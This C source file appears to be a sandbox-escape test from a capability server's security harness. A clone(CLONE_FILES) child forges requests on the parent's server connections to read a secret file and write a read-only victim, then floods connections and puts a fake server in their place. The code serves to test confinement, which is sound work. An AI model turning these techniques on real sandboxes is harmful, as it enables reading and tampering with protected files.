/* clone(CLONE_FILES) without CLONE_VM (a child of its own memory sharing
 * the parent's fd table, where neither closes the other's connections to
 * the capability server now): the child finds the parent's preld fds (the
 * connections; through ld-preld's `syscall; ret`, which the handler does not
 * hide them from) and
 *   1. sends well-formed requests on every one of them as the parent
 *      (Open of the secret, Open of the read-only victim O_WRONLY, Mkdir
 *      and Chdir in the ro grant, Connect), and reads the replies with
 *      their fds: a reply fd that reads the secret or writes the victim
 *      got out;
 *   2. asks for thousands of new connections on the parent's (Connect),
 *      closing each: the server must go on serving (the parent's calls
 *      after it);
 *   3. makes thousands of clone(CLONE_FILES) children that each make a
 *      server call and exit: the connections left in the shared table are
 *      counted (a leak of preld's fds and of the server's), and the parent's
 *      calls must still be served;
 *   4. in a fork child of its own (so the rest goes on): a clone(CLONE_FILES)
 *      child dup2s a socketpair of the program's over the parent's
 *      connections (a fake server), or closes them (close_range), then the
 *      parent opens the secret, writes the victim, and the fake server
 *      answers with fds of its own.
 * Any success prints ESCAPE, a secret read shows in stdout; a launcher
 * crash shows in the harness. Lines "BUG" report a connection leak. */
#include "attack.h"
#include "gadget_scan.h"
#include <poll.h>
#include <sched.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>

static unsigned long G;
static long gc(long n, long a, long b, long c, long d) { return G ? call_gadget(G, n, a, b, c, d) : raw(n, a, b, c, d); }
static const char *secret_path, *ro_dir, *rw_dir;

/* Sockets in the fd table (preld's connections), seen from the kernel. */
static int find_socks(int *out, int max) {
    int n = 0;
    for (int fd = 0; fd < 65536; fd++) {
        struct stat st;
        if (gc(SYS_fstat, fd, (long)&st, 0, 0) == 0 && S_ISSOCK(st.st_mode)) {
            if (n < max) out[n] = fd;
            n++;
        }
    }
    return n;
}

/* The protocol's frame (proto/src/lib.rs): magic, version, op, id, length. */
static int frame(unsigned char *b, unsigned short op, unsigned id, const unsigned char *p, unsigned plen) {
    unsigned magic = 0x444c5250;
    unsigned short ver = 1;
    memcpy(b, &magic, 4); memcpy(b + 4, &ver, 2); memcpy(b + 6, &op, 2); memcpy(b + 8, &id, 4); memcpy(b + 12, &plen, 4);
    memcpy(b + 16, p, plen);
    return 16 + plen;
}
/* A path argument from the cwd: base 0, u16 length, bytes. */
static unsigned put_path(unsigned char *p, const char *path) {
    unsigned short l = (unsigned short)strlen(path);
    p[0] = 0; memcpy(p + 1, &l, 2); memcpy(p + 3, path, l);
    return 3 + l;
}
enum { OP_CONNECT = 2, OP_OPEN = 3, OP_MKDIR = 7, OP_CHDIR = 15 };
static int req(unsigned char *b, int op, unsigned id, unsigned a, unsigned c, const char *path) {
    unsigned char p[4300];
    unsigned n = 0;
    if (op == OP_OPEN) { memcpy(p, &a, 4); memcpy(p + 4, &c, 4); n = 8; }
    if (op == OP_MKDIR) { memcpy(p, &a, 4); n = 4; }
    if (path) n += put_path(p + n, path);
    return frame(b, (unsigned short)op, id, p, n);
}

/* Reads one reply (waiting up to `ms`): its result, and what its fds give. */
static long reply(int s, const char *label, int ms, int keep) {
    struct pollfd pf = { s, POLLIN, 0 };
    if (gc(SYS_poll, (long)&pf, 1, ms, 0) <= 0) return -1000;
    unsigned char rb[70000];
    char cbuf[CMSG_SPACE(8 * sizeof(int))];
    struct iovec iov = { rb, sizeof rb };
    struct msghdr mh = { 0, 0, &iov, 1, cbuf, sizeof cbuf, 0 };
    long r = gc(SYS_recvmsg, s, (long)&mh, MSG_DONTWAIT, 0);
    if (r < 16) return -1001;
    long result = 0;
    if (r >= 24) memcpy(&result, rb + 16, 8);
    for (struct cmsghdr *c = CMSG_FIRSTHDR(&mh); c; c = CMSG_NXTHDR(&mh, c))
        if (c->cmsg_type == SCM_RIGHTS)
            for (unsigned j = 0; j < (c->cmsg_len - CMSG_LEN(0)) / sizeof(int); j++) {
                int fd = ((int *)CMSG_DATA(c))[j];
                struct stat st;
                if (keep || fstat(fd, &st) != 0 || S_ISSOCK(st.st_mode)) {
                    /* a new connection (Connect): only the server's */
                    close(fd);
                    continue;
                }
                char l[300];
                snprintf(l, sizeof l, "%s: reply fd", label);
                try_write_ro(l, raw(SYS_dup, fd, 0, 0, 0));
                show(l, fd);
            }
    return result;
}

static void forge_on(int s) {
    unsigned char b[5000];
    char l[200];
    struct { int op; unsigned a, c; const char *path; const char *what; } rs[] = {
        { OP_OPEN, O_RDONLY, 0, secret_path, "Open secret" },
        { OP_OPEN, O_WRONLY, 0, cat2(ro_dir, "/victim"), "Open victim O_WRONLY" },
        { OP_OPEN, O_RDWR | O_TRUNC, 0, cat2(ro_dir, "/victim"), "Open victim O_RDWR|O_TRUNC" },
        { OP_MKDIR, 0755, 0, cat2(ro_dir, "/made-by-forged-frame"), "Mkdir in ro" },
        { OP_CHDIR, 0, 0, "/", "Chdir /" },
        { OP_OPEN, O_RDONLY, 0, "secret", "Open secret relative" },
        { OP_CONNECT, 0, 0, 0, "Connect" },
    };
    for (unsigned i = 0; i < sizeof rs / sizeof *rs; i++) {
        int n = req(b, rs[i].op, 0x7000 + i, rs[i].a, rs[i].c, rs[i].path);
        long w = gc(SYS_sendto, s, (long)b, n, MSG_NOSIGNAL);
        snprintf(l, sizeof l, "[fd %d] %s", s, rs[i].what);
        long r = w < 0 ? w : reply(s, l, 2000, 0);
        printf("%s: sent %ld, reply %ld\n", l, w, r);
        fflush(stdout);
    }
    if (access(cat2(ro_dir, "/made-by-forged-frame"), F_OK) == 0) printf("ESCAPE: a forged Mkdir made a dir in the ro grant\n");
}

static int served(const char *what) {
    char *d = cat2(rw_dir, "/served");
    int ok = mkdir(d, 0755) == 0 && rmdir(d) == 0;
    int fd = open(cat2(ro_dir, "/victim"), O_RDONLY);
    ok = ok && fd >= 0;
    if (fd >= 0) close(fd);
    printf("%s: the server serves: %s\n", what, ok ? "yes" : strerror(errno));
    fflush(stdout);
    return ok;
}

static void attempts(const char *who) {
    char l[200];
    snprintf(l, sizeof l, "%s: open(secret)", who);
    show(l, lc(open(secret_path, O_RDONLY)));
    snprintf(l, sizeof l, "%s: open(victim, O_WRONLY)", who);
    try_write_ro(l, lc(open(cat2(ro_dir, "/victim"), O_WRONLY)));
    snprintf(l, sizeof l, "%s: raw open(victim, O_RDWR)", who);
    try_write_ro(l, raw(SYS_open, cat2(ro_dir, "/victim"), O_RDWR, 0, 0));
}

int main(int argc, char **argv) {
    ARGS
    secret_path = secret; ro_dir = ro; rw_dir = rw;
    setvbuf(stdout, 0, _IOLBF, 0);
    find_gadgets();
    G = ncand ? cands[0] : 0;
    int socks[256];
    int n0 = find_socks(socks, 256);
    printf("connections before: %d\n", n0);
    served("start");

    /* 1: requests as the parent, on each of its connections. */
    long pid = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0L, 0L, 0L, 0L);
    if (pid == 0) {
        for (int i = 0; i < n0; i++) forge_on(socks[i]);
        _exit(0);
    }
    waitpid(pid, 0, 0);
    served("after forged requests on the parent's connections");
    attempts("parent after forged requests");

    /* 2: Connect after Connect on the parent's main connection. */
    pid = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0L, 0L, 0L, 0L);
    if (pid == 0) {
        unsigned char b[64];
        int got = 0;
        for (int i = 0; i < 3000 && n0; i++) {
            int n = req(b, OP_CONNECT, i, 0, 0, 0);
            if (gc(SYS_sendto, socks[0], (long)b, n, MSG_NOSIGNAL) < 0) break;
            if (reply(socks[0], "connect", 2000, 1) < 0) break;
            got++;
        }
        printf("Connects answered on the parent's connection: %d\n", got);
        _exit(0);
    }
    waitpid(pid, 0, 0);
    int socks2[256];
    printf("connections after the Connects: %d\n", find_socks(socks2, 256));
    served("after 3000 Connects");

    /* 3: clone(CLONE_FILES) children that each make a call. */
    int rounds = argc > 4 ? atoi(argv[4]) : 3000, failed = 0;
    for (int i = 0; i < rounds; i++) {
        pid = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0L, 0L, 0L, 0L);
        if (pid == 0) {
            int fd = open(cat2(ro_dir, "/victim"), O_RDONLY);
            _exit(fd >= 0 ? 0 : 1);
        }
        if (pid < 0) { printf("clone %d: %s\n", i, strerror(errno)); break; }
        int st;
        waitpid(pid, &st, 0);
        failed += !(WIFEXITED(st) && WEXITSTATUS(st) == 0);
    }
    int n3 = find_socks(socks2, 256);
    printf("%d clone(CLONE_FILES) children: %d failed; connections in the table after: %d%s\n", rounds, failed, n3,
           n3 > n0 + 8 ? " BUG: the children's connections stay in the shared table" : "");
    served("after the children");
    attempts("parent after the children");

    /* 4: a fake server, or no connections at all, in a process of its own.
     * The fake server runs first: the process's next request (its fork's
     * Connect too) goes to it, not to a socket nobody reads. */
    for (int way = 0; way < 2; way++) {
        pid_t p = fork();
        if (p == 0) {
            int mine[256];
            int nm = find_socks(mine, 256);
            if (nm > 256) nm = 256;
            int sp[2];
            socketpair(AF_UNIX, SOCK_SEQPACKET, 0, sp);
            pid_t fake = -1;
            if (way == 0) {
                /* It answers every request with the fd of the rw dir and a
                 * zero result: a process sharing nothing, only fds this
                 * program has. */
                fake = fork();
                if (fake == 0) {
                    int rwfd = open(rw_dir, O_RDONLY | O_DIRECTORY);
                    for (int k = 0; k < 50; k++) {
                        unsigned char rb[70000];
                        struct pollfd pf = { sp[1], POLLIN, 0 };
                        if (poll(&pf, 1, 3000) <= 0) break;
                        long r = recv(sp[1], rb, sizeof rb, 0);
                        if (r < 16) break;
                        unsigned char out[64] = {0};
                        unsigned short op; unsigned id;
                        memcpy(&op, rb + 6, 2); memcpy(&id, rb + 8, 4);
                        op |= 0x8000;
                        unsigned plen = 12;
                        unsigned magic = 0x444c5250; unsigned short ver = 1;
                        memcpy(out, &magic, 4); memcpy(out + 4, &ver, 2); memcpy(out + 6, &op, 2); memcpy(out + 8, &id, 4); memcpy(out + 12, &plen, 4);
                        char cbuf[CMSG_SPACE(sizeof(int))] = {0};
                        struct iovec iov = { out, 16 + plen };
                        struct msghdr mh = { 0, 0, &iov, 1, cbuf, sizeof cbuf, 0 };
                        struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
                        cm->cmsg_level = SOL_SOCKET; cm->cmsg_type = SCM_RIGHTS; cm->cmsg_len = CMSG_LEN(sizeof(int));
                        memcpy(CMSG_DATA(cm), &rwfd, sizeof(int));
                        sendmsg(sp[1], &mh, MSG_NOSIGNAL);
                    }
                    _exit(0);
                }
            }
            long c = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0L, 0L, 0L, 0L);
            if (c == 0) {
                for (int i = 0; i < nm; i++) {
                    if (way == 0) gc(SYS_dup2, sp[0], mine[i], 0, 0);
                }
                if (way == 1) gc(SYS_close_range, 3, ~0U, 0, 0);
                _exit(0);
            }
            waitpid(c, 0, 0);
            if (way == 0) {
                attempts("with a fake server");
                kill(fake, SIGKILL);
                waitpid(fake, 0, 0);
            } else {
                attempts("with no connections");
            }
            _exit(0);
        }
        int st;
        waitpid(p, &st, 0);
        printf("way %d: process ended with status %#x\n", way, st);
    }
    served("end");
    return 0;
}
